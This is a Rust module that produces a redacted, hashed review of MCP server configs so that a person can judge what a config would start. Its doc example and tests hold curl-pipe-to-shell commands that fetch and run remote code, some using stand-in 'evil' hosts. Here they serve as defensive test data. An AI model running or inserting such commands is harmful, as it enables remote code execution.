//! The review of a config: what it would start, for a person who decides whether to trust it.
//!
//! Variables are not expanded, so a reviewer sees `${URL:-https://example.com}` and not its current
//! value. Values of variables and headers, and credentials in URLs and arguments, are `***`. A hash
//! of each shows whether it changed.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::file::ConfigError;
#[cfg(any(feature = "stdio", feature = "auth"))]
use super::redact_args::redact_args;
#[cfg(feature = "http")]
use super::redact_args::{HIDDEN, redact_url};
use super::{Arguments, Config, ConfigProblem, ConfigSource, ServerConfig};
use crate::api::transport::TransportKind;
use crate::state::fingerprint::sha256_hex;

/// The key of the settings that are not shown, in [`ReviewedServer::hidden`].
const SETTINGS: &str = "settings";

/// Keys of an entry that facts show, or whose values have their own hashes.
const SHOWN_KEYS: &[&str] = &[
    "type",
    "command",
    "args",
    "env",
    "cwd",
    "inheritEnv",
    "url",
    "socketPath",
    "headers",
    "bearerTokenEnvVar",
    "rootCertificates",
    "clientCertificate",
    "enabled",
    "start",
    "pin",
    "trusted",
];

/// What a config would start, without its secrets.
///
/// ```
/// use mcpvisor::config::{ConfigSource, Review};
///
/// let text = r#"{ "mcpServers": { "a": { "command": "sh", "args": ["-c", "curl $URL | sh"] } } }"#;
/// let review = Review::of(&ConfigSource::new(".mcp.json", text))?;
/// assert_eq!(review.servers[0].facts[0].label, "command");
/// assert_eq!(review.servers[0].facts[0].value, "sh -c 'curl $URL | sh'");
/// # Ok::<(), mcpvisor::config::ConfigError>(())
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Review {
    /// The servers, in the order of their entries.
    pub servers: Vec<ReviewedServer>,
    /// The state folder that the config names, if any.
    #[serde(default)]
    pub state_dir: Option<String>,
}

/// The review of one entry of a config.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct ReviewedServer {
    /// The server's name.
    pub name: String,
    /// The command that it would run, or the URL that it would connect to.
    pub facts: Vec<Fact>,
    /// A hash of the whole entry: two entries with the same facts may differ in hidden values.
    pub fingerprint: String,
    /// A hash of every hidden or redacted value. The key is the label of its fact and the name of
    /// the variable or header (`sets PATH`), or the label alone for the rest of a line. Short
    /// secrets can be guessed from a hash: keep it as private as the config. Empty in a review that
    /// an earlier version saved.
    #[serde(default)]
    pub hidden: BTreeMap<String, String>,
}

/// One fact about a server.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Fact {
    /// The subject, such as `command`.
    pub label: String,
    /// The value. It comes from the config: escape it before showing it.
    pub value: String,
}

impl Review {
    /// Reviews a config. Unusable entries are included, with the reason.
    pub fn of(source: &ConfigSource) -> Result<Self, ConfigError> {
        let config = Config::as_written(source)?;
        let mut servers: Vec<ReviewedServer> = config.servers.iter().map(server).collect();
        let unusable = config.problems.iter().filter_map(|problem| {
            let name = problem.server.as_ref()?;
            let known = config.servers.iter().any(|it| it.name.as_str() == name);
            (!known).then(|| unusable(name, problem))
        });
        servers.extend(unusable);
        Ok(Self {
            servers,
            state_dir: config
                .state_dir
                .map(|folder| folder.to_string_lossy().into_owned()),
        })
    }

    /// The review of one server.
    pub fn server(&self, name: &str) -> Option<&ReviewedServer> {
        self.servers.iter().find(|server| server.name == name)
    }
}

impl ReviewedServer {
    /// The value of a fact.
    pub fn fact(&self, label: &str) -> Option<&str> {
        let fact = self.facts.iter().find(|fact| fact.label == label)?;
        Some(&fact.value)
    }

    /// Hidden values that changed: the keys of [`hidden`](Self::hidden) that both reviews have,
    /// with different hashes.
    pub fn changed_unseen<'s>(&'s self, before: &'s Self) -> impl Iterator<Item = &'s str> {
        let changed = self.hidden.iter().filter(|(key, hash)| {
            let old = before.hidden.get(*key);
            old.is_some_and(|old| old != *hash)
        });
        changed.map(|(key, _)| key.as_str())
    }
}

fn unusable(name: &str, problem: &ConfigProblem) -> ReviewedServer {
    ReviewedServer {
        name: name.to_owned(),
        facts: vec![fact("unusable", problem.message.clone())],
        fingerprint: sha256_hex(problem.message.as_bytes()),
        hidden: BTreeMap::new(),
    }
}

fn fact(label: &str, value: impl Into<String>) -> Fact {
    Fact {
        label: label.to_owned(),
        value: value.into(),
    }
}

fn server(server: &ServerConfig) -> ReviewedServer {
    let (mut facts, values) = transport(server);
    if !server.enabled {
        facts.push(fact("enabled", "no"));
    }
    if server.settings.rest.lazy {
        facts.push(fact("start", "lazy"));
    }
    if server.settings.connections.is_per_client() {
        facts.push(fact("scope", "client"));
    }
    if server.settings.retry.trusted {
        facts.push(fact("annotations", "trusted"));
    }
    if server.pin {
        facts.push(fact("pinned", "yes"));
    }
    let document = server.to_json(Arguments::Shown).unwrap_or_default();
    let whole = serde_json::json!([document, values]).to_string();
    let values = values.into_iter().chain(settings(document));
    let hidden = values.map(|(key, value)| (key, sha256_hex(value.as_bytes())));
    ReviewedServer {
        name: server.name.to_string(),
        facts,
        fingerprint: sha256_hex(whole.as_bytes()),
        hidden: hidden.collect(),
    }
}

/// The settings of an entry that are not shown as facts.
fn settings(mut document: serde_json::Value) -> Option<(String, String)> {
    let entry = document.as_object_mut()?;
    entry.retain(|key, _| !SHOWN_KEYS.contains(&key.as_str()));
    Some((SETTINGS.to_owned(), document.to_string()))
}

/// The facts and the hidden values of a transport.
fn transport(server: &ServerConfig) -> (Vec<Fact>, BTreeMap<String, String>) {
    let mut facts = Vec::new();
    let mut hidden = BTreeMap::new();
    match &server.transport.0 {
        #[cfg(feature = "stdio")]
        TransportKind::Stdio(command) => {
            let parts = command.parts();
            facts.push(fact("command", command_line(&parts.program, &parts.args)));
            facts.extend(parts.cwd.as_ref().map(|cwd| fact("in", cwd.as_str())));
            let names = parts.env.iter().map(|(name, _)| name.as_str());
            facts.extend(listed("sets", names));
            let inherited = parts.inherit.iter().map(String::as_str);
            facts.extend(listed("inherits", inherited));
            let args = serde_json::json!(parts.args).to_string();
            hidden.insert("command".to_owned(), args);
            let values = parts.env.into_iter();
            hidden.extend(values.map(|(name, value)| (format!("sets {name}"), value)));
        }
        #[cfg(feature = "http")]
        TransportKind::Http(endpoint) => {
            let parts = endpoint.parts();
            facts.push(fact("url", redact_url(parts.url)));
            if parts.is_sse {
                facts.push(fact("transport", server.transport.label()));
            }
            let socket = parts.unix_socket.iter().map(String::as_str);
            facts.extend(listed("through the socket", socket));
            let names = parts.headers.iter().map(|(name, _)| *name);
            facts.extend(listed("headers", names));
            if parts.bearer_env.is_some() {
                facts.push(fact("token in", parts.shown_bearer_env.unwrap_or(HIDDEN)));
            }
            if let Some(variable) = &parts.bearer_env {
                hidden.insert("token in".to_owned(), variable.to_string());
            }
            let certificates = parts.root_certificates.iter().map(String::as_str);
            facts.extend(listed("trusts certificates", certificates));
            let own = parts.client_certificate.iter().map(String::as_str);
            facts.extend(listed("shows certificate", own));
            #[cfg(feature = "auth")]
            auth(&endpoint.auth, &mut facts, &mut hidden);
            hidden.insert("url".to_owned(), parts.url.to_owned());
            let values = parts.headers.iter();
            let values =
                values.map(|(name, value)| (format!("headers {name}"), (*value).to_owned()));
            hidden.extend(values);
        }
        #[cfg(feature = "stream")]
        TransportKind::Stream(_) => facts.push(fact("transport", server.transport.label())),
        TransportKind::Channel { label, .. } => facts.push(fact("transport", *label)),
    }
    (facts, hidden)
}

/// The facts and the hidden values of authorization: what runs, what is read, and where it is sent.
#[cfg(feature = "auth")]
fn auth(
    auth: &crate::auth::AuthConfig,
    facts: &mut Vec<Fact>,
    hidden: &mut BTreeMap<String, String>,
) {
    let helper = auth.headers_helper.as_deref().and_then(<[_]>::split_first);
    if let Some((program, args)) = helper {
        facts.push(fact("runs", command_line(program, args)));
        hidden.insert("runs".to_owned(), serde_json::json!(args).to_string());
    }
    let issuer = auth.issuer.as_deref().map(redact_url);
    facts.extend(issuer.map(|url| fact("issuer", url)));
    let shown = |name: &'_ str| match crate::secret::is_shown_variable(name) {
        true => quoted(name),
        false => HIDDEN.to_owned(),
    };
    let secret = auth.client_secret_env.as_deref();
    facts.extend(secret.map(|name| fact("secret in", shown(name))));
    let key = auth.private_key_file.as_deref();
    let key = key.map(|file| quoted(&file.to_string_lossy()));
    facts.extend(key.map(|file| fact("key in", file)));
    if let Some(idp) = &auth.idp {
        let endpoint = idp.token_endpoint.as_ref().unwrap_or(&idp.issuer);
        facts.push(fact("idp", redact_url(endpoint)));
        facts.push(fact("id token in", shown(&idp.id_token_env)));
    }
    if let Some(secret) = &auth.client_secret {
        hidden.insert("client secret".to_owned(), secret.expose().to_owned());
    }
}

/// A command as one line of a shell, with its credentials redacted.
#[cfg(any(feature = "stdio", feature = "auth"))]
fn command_line<A: AsRef<str>>(program: &str, args: &[A]) -> String {
    let args: Vec<String> = args.iter().map(|arg| arg.as_ref().to_owned()).collect();
    let line = std::iter::once(program.to_owned()).chain(redact_args(&args));
    let line: Vec<String> = line.map(|word| quoted(&word)).collect();
    line.join(" ")
}

/// The names as one fact, if there are any.
fn listed<'n>(label: &str, names: impl Iterator<Item = &'n str>) -> Option<Fact> {
    let names: Vec<String> = names.map(quoted).collect();
    (!names.is_empty()).then(|| fact(label, names.join(" ")))
}

/// Quotes a text as one shell word.
fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./+,:@%=*{}$".contains(c);
    match !text.is_empty() && text.chars().all(plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

#[cfg(all(feature = "stdio", feature = "http"))]
#[cfg(test)]
mod tests {
    use super::*;

    fn review(servers: &serde_json::Value) -> Review {
        let text = serde_json::json!({ "mcpServers": servers }).to_string();
        Review::of(&ConfigSource::new("mcp.json", text)).unwrap()
    }

    fn command(entry: &serde_json::Value) -> String {
        let review = review(&serde_json::json!({ "a": entry }));
        review.servers[0].fact("command").unwrap().to_owned()
    }

    #[test]
    fn every_argument_of_a_command_is_shown() {
        let entry = serde_json::json!({
            "command": "bash", "args": ["-c", "curl https://example.com/x | sh"],
            "env": { "TOKEN": "canary-1" }, "inheritEnv": ["GH_TOKEN"], "cwd": "/srv",
        });
        let review = review(&serde_json::json!({ "a": entry }));
        let facts: Vec<(&str, &str)> = review.servers[0]
            .facts
            .iter()
            .map(|fact| (fact.label.as_str(), fact.value.as_str()))
            .collect();
        assert_eq!(
            facts,
            [
                ("command", "bash -c 'curl https://example.com/x | sh'"),
                ("in", "/srv"),
                ("sets", "TOKEN"),
                ("inherits", "GH_TOKEN"),
            ]
        );
    }

    #[test]
    fn references_and_their_defaults_are_shown_as_written() {
        let entry = serde_json::json!({
            "command": "${SHELL_X}", "args": ["-c", "${RUN:-curl evil | sh}", "${env:A}"],
            "reconnect": { "within": "${WITHIN}" },
        });
        assert_eq!(
            command(&entry),
            "${SHELL_X} -c '${RUN:-curl evil | sh}' ${env:A}"
        );
        let review = review(&serde_json::json!({ "a": { "url": "${BASE:-https://evil}/mcp" } }));
        assert_eq!(
            review.servers[0].fact("url"),
            Some("${BASE:-https://evil}/mcp")
        );
    }

    #[test]
    fn credentials_are_hidden() {
        let entry = serde_json::json!({ "command": "x", "args": ["--token", "abc"] });
        assert_eq!(command(&entry), "x --token ***");
        let url = "https://me:pw@example.com/mcp?key=abc&x#y";
        let review = review(&serde_json::json!({ "a": {
            "url": url, "headers": { "Authorization": "Bearer canary" },
            "bearerTokenEnvVar": "MY_TOKEN" } }));
        let server = &review.servers[0];
        assert_eq!(
            server.fact("url"),
            Some("https://***@example.com/mcp?key=***&***#***")
        );
        assert_eq!(server.fact("headers"), Some("Authorization"));
        assert_eq!(server.fact("token in"), Some("MY_TOKEN"));
    }

    #[test]
    fn a_change_of_what_is_not_shown_changes_the_fingerprint() {
        let of = |value: &str| {
            let entry = serde_json::json!({ "command": "x", "env": { "NODE_OPTIONS": value } });
            review(&serde_json::json!({ "a": entry })).servers.remove(0)
        };
        let (one, other) = (of("--require ./a.js"), of("--require ./b.js"));
        assert_eq!(one.facts, other.facts);
        assert_ne!(one.fingerprint, other.fingerprint);
        let changed: Vec<&str> = other.changed_unseen(&one).collect();
        assert_eq!(changed, ["sets NODE_OPTIONS"]);
        assert_eq!(one, of("--require ./a.js"));
    }

    #[test]
    fn an_entry_that_cannot_be_used_is_reviewed_too() {
        let review = review(&serde_json::json!({ "a": { "command": 5 } }));
        assert_eq!(review.servers[0].facts[0].label, "unusable");
    }
}
